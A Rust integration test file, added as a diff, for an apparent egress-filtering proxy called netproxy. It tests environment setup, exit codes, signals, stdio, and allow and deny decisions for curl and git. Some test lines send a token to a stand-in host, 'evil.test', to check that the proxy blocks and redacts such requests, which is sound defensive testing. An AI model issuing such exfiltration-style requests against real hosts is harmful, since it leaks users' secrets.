@@ -1,0 +1,532 @@
+//! `netproxy run -- CMD` and `netproxy env` with real children: the environment, curl over
+//! HTTP, CONNECT and SOCKS5, git over HTTP, exit codes, signals, stdin and stdout.
+#![allow(clippy::unwrap_used)]
+
+use std::io::{BufRead, BufReader, Write};
+use std::path::Path;
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use proxy_test_support::{Answer, DnsServer, HttpOrigin};
+
+/// `netproxy ARGS` with a clean environment of its own (no user config, no proxy variables but
+/// those in `env`), from a temporary home.
+fn netproxy(home: &Path, args: &[&str], env: &[(&str, &str)]) -> Command {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_netproxy"));
+    cmd.args(args)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", home)
+        .env("NETPROXY_HOME", home.join("netproxy"))
+        .env("NETPROXY_SYSTEM_DIR", home.join("system"))
+        .envs(env.iter().copied());
+    cmd
+}
+
+fn output(mut cmd: Command) -> Output {
+    cmd.stdin(Stdio::null());
+    let mut child = cmd
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let start = Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if start.elapsed() > Duration::from_secs(60) {
+            let _ = child.kill();
+            panic!("netproxy run did not finish");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child.wait_with_output().unwrap()
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+fn env_of(stdout: &str) -> Vec<(String, String)> {
+    stdout
+        .lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .collect()
+}
+
+fn get<'a>(env: &'a [(String, String)], key: &str) -> Option<&'a str> {
+    env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
+}
+
+#[test]
+fn the_child_gets_the_proxy_environment_and_keeps_the_rest() {
+    let home = tempfile::tempdir().unwrap();
+    let out = output(netproxy(
+        home.path(),
+        &["run", "--", "sh", "-c", "env"],
+        &[
+            ("HTTPS_PROXY", "http://corp.invalid:1"),
+            ("no_proxy", "*"),
+            ("Http_Proxy", "http://corp.invalid:2"),
+            ("KEEP_ME", "yes"),
+        ],
+    ));
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let env = env_of(&text(&out.stdout));
+    let http = get(&env, "HTTP_PROXY").unwrap().to_owned();
+    assert!(http.starts_with("http://127.0.0.1:"), "{http}");
+    for key in [
+        "HTTPS_PROXY",
+        "http_proxy",
+        "https_proxy",
+        "WS_PROXY",
+        "WSS_PROXY",
+        "npm_config_proxy",
+        "YARN_HTTPS_PROXY",
+        "PIP_PROXY",
+        "BUNDLE_HTTP_PROXY",
+        "DOCKER_HTTPS_PROXY",
+    ] {
+        assert_eq!(get(&env, key), Some(http.as_str()), "{key}");
+    }
+    let all = get(&env, "ALL_PROXY").unwrap();
+    assert!(all.starts_with("socks5h://127.0.0.1:"), "{all}");
+    assert_ne!(&all["socks5h://".len()..], &http["http://".len()..]);
+    assert_eq!(get(&env, "all_proxy"), Some(all));
+    assert_eq!(get(&env, "FTP_PROXY"), Some(all));
+    assert_eq!(get(&env, "NO_PROXY"), Some(""));
+    assert_eq!(get(&env, "no_proxy"), Some(""));
+    assert_eq!(get(&env, "NODE_USE_ENV_PROXY"), Some("1"));
+    assert_eq!(get(&env, "ELECTRON_GET_USE_PROXY"), Some("true"));
+    assert_eq!(get(&env, "NETPROXY_ACTIVE"), Some("1"));
+    assert_eq!(get(&env, "KEEP_ME"), Some("yes"));
+    assert_eq!(get(&env, "Http_Proxy"), None);
+
+    // With local binding, local targets bypass the proxy; without SOCKS, ALL_PROXY is HTTP.
+    let out = output(netproxy(
+        home.path(),
+        &[
+            "run",
+            "--allow-local-binding",
+            "-c",
+            "enable_socks5=false",
+            "--",
+            "sh",
+            "-c",
+            "env",
+        ],
+        &[],
+    ));
+    let env = env_of(&text(&out.stdout));
+    assert_eq!(get(&env, "ALL_PROXY"), get(&env, "HTTP_PROXY"));
+    assert_eq!(
+        get(&env, "NO_PROXY"),
+        Some("localhost,127.0.0.1,::1,10.0.0.0/8,172.16.0.0/12,192.168.0.0/16")
+    );
+    assert_eq!(get(&env, "NETPROXY_ALLOW_LOCAL_BINDING"), Some("1"));
+}
+
+#[test]
+fn two_runs_side_by_side_get_their_own_ports() {
+    let home = tempfile::tempdir().unwrap();
+    let spawn = || {
+        netproxy(
+            home.path(),
+            &[
+                "run",
+                "--",
+                "sh",
+                "-c",
+                "echo $HTTP_PROXY $ALL_PROXY; sleep 1",
+            ],
+            &[],
+        )
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap()
+    };
+    let (a, b) = (spawn(), spawn());
+    let a = text(&a.wait_with_output().unwrap().stdout);
+    let b = text(&b.wait_with_output().unwrap().stdout);
+    assert!(
+        a.contains("127.0.0.1:") && b.contains("127.0.0.1:"),
+        "{a} {b}"
+    );
+    assert_ne!(a, b);
+}
+
+#[test]
+fn exit_codes_follow_the_child() {
+    let home = tempfile::tempdir().unwrap();
+    let code = |args: &[&str]| {
+        let out = output(netproxy(home.path(), args, &[]));
+        (out.status.code(), text(&out.stderr))
+    };
+    assert_eq!(code(&["run", "--", "sh", "-c", "exit 7"]).0, Some(7));
+    assert_eq!(code(&["run", "true"]).0, Some(0));
+    // Killed by a signal: 128 + N.
+    assert_eq!(
+        code(&["run", "--", "sh", "-c", "kill -TERM $$"]).0,
+        Some(128 + 15)
+    );
+    assert_eq!(
+        code(&["run", "--", "sh", "-c", "kill -KILL $$"]).0,
+        Some(128 + 9)
+    );
+    let (c, err) = code(&["run", "--", "/nonexistent/command"]);
+    assert_eq!(c, Some(127));
+    assert!(err.contains("cannot start `/nonexistent/command`"), "{err}");
+    // No command, or an unknown option before it: usage errors.
+    assert_eq!(code(&["run"]).0, Some(2));
+    assert_eq!(code(&["run", "--no-such-option", "true"]).0, Some(2));
+    // A bad config: 3, and the command never runs.
+    let marker = home.path().join("ran");
+    let (c, err) = code(&[
+        "run",
+        "-c",
+        "mode=\"sideways\"",
+        "--",
+        "touch",
+        marker.to_str().unwrap(),
+    ]);
+    assert_eq!(c, Some(3), "{err}");
+    assert!(!marker.exists());
+}
+
+#[test]
+fn stdin_and_stdout_pass_through() {
+    let home = tempfile::tempdir().unwrap();
+    let mut child = netproxy(home.path(), &["run", "--", "cat"], &[])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let payload: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
+    let mut stdin = child.stdin.take().unwrap();
+    let p = payload.clone();
+    let writer = std::thread::spawn(move || {
+        stdin.write_all(&p).unwrap();
+    });
+    let out = child.wait_with_output().unwrap();
+    writer.join().unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    assert!(out.stdout == payload, "stdout differs from stdin");
+    assert!(out.stderr.is_empty(), "{}", text(&out.stderr));
+}
+
+/// Starts `netproxy run` with a child that traps SIGINT, SIGTERM and SIGHUP, and waits for it
+/// to say it is ready.
+fn trapping_child(home: &Path) -> (Child, BufReader<std::process::ChildStdout>) {
+    let script = "trap 'echo got INT; exit 11' INT; \
+                  trap 'echo got TERM; exit 12' TERM; \
+                  trap 'echo got HUP; exit 13' HUP; \
+                  echo ready; \
+                  while :; do sleep 0.05; done";
+    let mut child = netproxy(home, &["run", "--", "sh", "-c", script], &[])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut out = BufReader::new(child.stdout.take().unwrap());
+    let mut line = String::new();
+    out.read_line(&mut line).unwrap();
+    assert_eq!(line, "ready\n");
+    (child, out)
+}
+
+#[test]
+fn signals_are_forwarded_to_the_child() {
+    let home = tempfile::tempdir().unwrap();
+    for (sig, name, code) in [
+        ("-INT", "INT", 11),
+        ("-TERM", "TERM", 12),
+        ("-HUP", "HUP", 13),
+    ] {
+        let (mut child, mut out) = trapping_child(home.path());
+        let ok = Command::new("kill")
+            .args([sig, &child.id().to_string()])
+            .status()
+            .unwrap();
+        assert!(ok.success());
+        let mut line = String::new();
+        out.read_line(&mut line).unwrap();
+        assert_eq!(line, format!("got {name}\n"));
+        let start = Instant::now();
+        let status = loop {
+            if let Some(s) = child.try_wait().unwrap() {
+                break s;
+            }
+            assert!(start.elapsed() < Duration::from_secs(10), "no exit");
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        assert_eq!(status.code(), Some(code), "{name}");
+    }
+}
+
+/// A name from the in-process DNS server that resolves to 127.0.0.2, treated as public.
+struct World {
+    dns: DnsServer,
+    origin: HttpOrigin,
+    home: tempfile::TempDir,
+}
+
+async fn world() -> World {
+    let dns = DnsServer::start().await.unwrap();
+    let origin = HttpOrigin::start("origin", "127.0.0.2".parse().unwrap())
+        .await
+        .unwrap();
+    for name in ["api.test", "evil.test"] {
+        dns.set(name, Answer::Addrs(vec!["127.0.0.2".parse().unwrap()]));
+    }
+    World {
+        dns,
+        origin,
+        home: tempfile::tempdir().unwrap(),
+    }
+}
+
+impl World {
+    fn run(&self, extra: &[&str], script: &str) -> Command {
+        let dns = format!("dns.nameservers=[\"{}\"]", self.dns.addr());
+        let mut args = vec![
+            "run",
+            "-c",
+            &dns,
+            "-c",
+            "treat_as_public=[\"127.0.0.2/32\"]",
+            "--allow",
+            "api.test",
+        ];
+        args.extend_from_slice(extra);
+        args.extend_from_slice(&["--", "sh", "-c", script]);
+        netproxy(self.home.path(), &args, &[])
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_in_the_child_goes_through_the_proxy_over_http_connect_and_socks() {
+    let w = world().await;
+    let port = w.origin.addr().port();
+    let script = format!(
+        "curl -s -o /dev/null -w 'http %{{http_code}}\\n' http://api.test:{port}/plain; \
+         curl -s -o /dev/null -w 'connect %{{http_code}}\\n' -p http://api.test:{port}/tunnel; \
+         curl -s -o /dev/null -w 'socks %{{http_code}}\\n' -x \"$ALL_PROXY\" http://api.test:{port}/socks; \
+         curl -s -o /dev/null -w 'denied %{{http_code}}\\n' http://evil.test:{port}/secret?token=x; \
+         curl -s -o /dev/null -w 'denied-connect %{{http_connect}}\\n' -p http://evil.test:{port}/; \
+         curl -s -o /dev/null -w 'denied-socks %{{http_code}}\\n' -x \"$ALL_PROXY\" http://evil.test:{port}/; \
+         exit 5"
+    );
+    let report = w.home.path().join("report.json");
+    let cmd = w.run(&["--report", report.to_str().unwrap()], &script);
+    let out = tokio::task::spawn_blocking(move || output(cmd))
+        .await
+        .unwrap();
+    let stdout = text(&out.stdout);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(5), "{stdout}{stderr}");
+    for line in [
+        "http 200",
+        "connect 200",
+        "socks 200",
+        "denied 403",
+        "denied-connect 403",
+        "denied-socks 000",
+    ] {
+        assert!(stdout.lines().any(|l| l == line), "{line}: {stdout}");
+    }
+    let paths: Vec<String> = w.origin.seen().iter().map(|s| s.target.clone()).collect();
+    assert_eq!(paths, ["/plain", "/tunnel", "/socks"]);
+    // The summary: every refusal counted, each target once, with its reason.
+    assert!(
+        stderr.contains(&format!(
+            "netproxy: blocked 3 requests: evil.test:{port} (not_allowed)\n"
+        )),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("token=x"), "{stderr}");
+    assert_eq!(w.dns.queries_for("evil.test"), 0);
+    // The report has every decision, and no path or query.
+    let body = std::fs::read_to_string(&report).unwrap();
+    assert!(
+        !body.contains("secret") && !body.contains("token"),
+        "{body}"
+    );
+    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
+    let d = v["decisions"].as_array().unwrap();
+    let protocols: Vec<(&str, &str)> = d
+        .iter()
+        .map(|e| {
+            (
+                e["protocol"].as_str().unwrap(),
+                e["decision"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        protocols,
+        [
+            ("http", "allow"),
+            ("https_connect", "allow"),
+            ("socks5_tcp", "allow"),
+            ("http", "deny"),
+            ("https_connect", "deny"),
+            ("socks5_tcp", "deny"),
+        ]
+    );
+    assert_eq!(d[0]["rule"], "api.test");
+    assert_eq!(d[3]["host"], "evil.test");
+    assert_eq!(d[3]["reason"], "not_allowed");
+    assert_eq!(v["blocked_total"], 3);
+    assert_eq!(v["exit_code"], 5);
+
+    // --quiet: no summary.
+    let cmd = w.run(
+        &["--quiet"],
+        &format!("curl -s -o /dev/null http://evil.test:{port}/"),
+    );
+    let out = tokio::task::spawn_blocking(move || output(cmd))
+        .await
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    assert!(
+        !text(&out.stderr).contains("blocked"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn git_clones_over_http_when_allowed_and_not_otherwise() {
+    let w = world().await;
+    // A dumb-HTTP repository served by a static file server on 127.0.0.2.
+    let repo = w.home.path().join("www/repo.git");
+    let src = w.home.path().join("src");
+    let git = |dir: &Path, args: &[&str]| {
+        let out = Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", w.home.path())
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@t")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@t")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
+    };
+    std::fs::create_dir_all(&src).unwrap();
+    std::fs::create_dir_all(&repo).unwrap();
+    git(&src, &["init", "-q", "-b", "main"]);
+    std::fs::write(src.join("hello.txt"), "hello through netproxy\n").unwrap();
+    git(&src, &["add", "hello.txt"]);
+    git(&src, &["commit", "-q", "-m", "one"]);
+    git(&repo, &["init", "-q", "--bare", "-b", "main"]);
+    git(&src, &["push", "-q", repo.to_str().unwrap(), "main"]);
+    git(&repo, &["update-server-info"]);
+    let mut server = Command::new("python3")
+        .args([
+            "-u",
+            "-m",
+            "http.server",
+            "--bind",
+            "127.0.0.2",
+            "0",
+            "--directory",
+        ])
+        .arg(w.home.path().join("www"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(server.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    // "Serving HTTP on 127.0.0.2 port N (http://127.0.0.2:N/) ..."
+    let port: u16 = line
+        .split_whitespace()
+        .nth(5)
+        .and_then(|p| p.parse().ok())
+        .unwrap_or_else(|| panic!("{line}"));
+
+    let clone = |name: &str, into: &str| {
+        format!(
+            "GIT_CONFIG_NOSYSTEM=1 git clone -q http://{name}:{port}/repo.git {}",
+            w.home.path().join(into).display()
+        )
+    };
+    let cmd = w.run(&[], &clone("api.test", "allowed"));
+    let out = tokio::task::spawn_blocking(move || output(cmd))
+        .await
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert_eq!(
+        std::fs::read_to_string(w.home.path().join("allowed/hello.txt")).unwrap(),
+        "hello through netproxy\n"
+    );
+    let cmd = w.run(&[], &clone("evil.test", "denied"));
+    let out = tokio::task::spawn_blocking(move || output(cmd))
+        .await
+        .unwrap();
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(128), "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "netproxy: blocked 1 request: evil.test:{port} (not_allowed)"
+        )),
+        "{stderr}"
+    );
+    assert!(!w.home.path().join("denied/hello.txt").exists());
+    let _ = server.kill();
+    let _ = server.wait();
+}
+
+#[test]
+fn env_prints_a_sourceable_environment_and_json() {
+    let home = tempfile::tempdir().unwrap();
+    let out = output(netproxy(
+        home.path(),
+        &[
+            "env",
+            "--http",
+            "127.0.0.1:3128",
+            "--socks",
+            "127.0.0.1:8081",
+        ],
+        &[],
+    ));
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let script = format!(
+        "{}\necho \"$https_proxy|$ALL_PROXY|$NO_PROXY|$NETPROXY_ACTIVE\"",
+        text(&out.stdout)
+    );
+    let sh = Command::new("sh").args(["-c", &script]).output().unwrap();
+    assert_eq!(
+        text(&sh.stdout),
+        "http://127.0.0.1:3128|socks5h://127.0.0.1:8081||1\n"
+    );
+
+    let out = output(netproxy(
+        home.path(),
+        &["env", "--format", "json", "--http", "127.0.0.1:3128"],
+        &[],
+    ));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["HTTP_PROXY"], "http://127.0.0.1:3128");
+    assert_eq!(v["ALL_PROXY"], "http://127.0.0.1:3128");
+    assert_eq!(v["NODE_USE_ENV_PROXY"], "1");
+
+    // Bad input: usage errors.
+    for args in [
+        &["env"][..],
+        &["env", "--http", "not an address"][..],
+        &["env", "--http", "127.0.0.1:0"][..],
+        &["env", "--http", "127.0.0.1:3128", "--format", "xml"][..],
+    ] {
+        let out = output(netproxy(home.path(), args, &[]));
+        assert_eq!(out.status.code(), Some(2), "{args:?}");
+    }
+}
